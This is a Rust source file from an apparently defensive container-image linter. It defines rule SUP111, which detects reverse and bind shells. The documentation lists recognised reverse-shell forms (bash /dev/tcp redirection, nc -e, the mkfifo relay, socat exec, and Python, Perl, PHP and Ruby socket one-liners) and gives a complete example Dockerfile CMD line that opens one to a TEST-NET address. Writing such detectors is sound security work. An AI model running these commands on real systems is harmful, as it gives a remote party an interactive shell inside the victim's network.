use shipshape_malware::{Category, MalwareMatch};
use shipshape_model::{SourceFile, declare_rule};

use crate::checkers::malware::report_matches;
use crate::context::Checker;

declare_rule! {
    /// ## What it does
    /// Flags a reverse (or bind) shell: a shell handed to the other end of a network
    /// connection. Recognised: `bash -i >& /dev/tcp/HOST/PORT 0>&1` and its `/dev/udp`,
    /// `exec 5<>/dev/tcp/...` and `0<&196` variants; `nc -e /bin/sh`, `ncat --exec`,
    /// `nc -c sh`; the named-pipe relay `rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i|nc ...`;
    /// `telnet ... | /bin/sh | telnet ...` and `openssl s_client ... | /bin/sh`;
    /// `socat exec:'bash -li',pty ... tcp:...`; Python (`socket` + `connect` + `os.dup2` +
    /// `pty.spawn`/`subprocess`), Perl (`use Socket` + `open(STDIN, ">&S")` + `exec`), PHP
    /// (`fsockopen` + `exec("/bin/sh ...")`) and Ruby (`TCPSocket` + `exec sprintf("/bin/sh -i
    /// <&%d ...")`) one-liners and scripts.
    ///
    /// A word alone is not a shell: `/dev/tcp` in a port check (`echo > /dev/tcp/db/5432`),
    /// `nc -z` probes, `socat` port forwarding and prose are not reported, nor are hosts of
    /// documentation (`example.com`, TEST-NET addresses). Read in the same files as `SUP110`,
    /// text only (the `bash` binary itself holds the string `/dev/tcp`).
    ///
    /// ## Why is this bad?
    /// Whoever listens at the other end gets an interactive shell in the container, as its
    /// user (often root), inside your network. In an entrypoint, script, cron job or history
    /// step it is a backdoor planted in the image.
    ///
    /// ## Example
    /// ```dockerfile
    /// CMD bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'
    /// ```
    ///
    /// Use instead: an entrypoint that starts the application, and `docker exec` (or
    /// `kubectl exec`) for the rare interactive session.
    ///
    /// ## Fix
    /// Treat the image as compromised: do not run it, find which layer or build step added the
    /// shell, rebuild from trusted sources, and look for connections to the host it names.
    ///
    /// ## References
    /// - CWE-506: Embedded Malicious Code
    /// - MITRE ATT&CK T1059.004: Command and Scripting Interpreter: Unix Shell
    pub static REVERSE_SHELL = {
        code: "SUP111",
        name: "reverse-shell",
        layer: SupplyChain,
        threat: MaliciousImage,
        asset: Host,
        severity: Critical,
        fix: None,
        summary: "a shell is handed to a remote host",
        aliases: [],
    }
}

pub(crate) fn check(source: &SourceFile, found: &[MalwareMatch], checker: &mut Checker<'_>) {
    report_matches(
        &REVERSE_SHELL,
        Category::ReverseShell,
        source,
        found,
        "treat the image as compromised: remove the shell and rebuild from trusted sources",
        checker,
    );
}
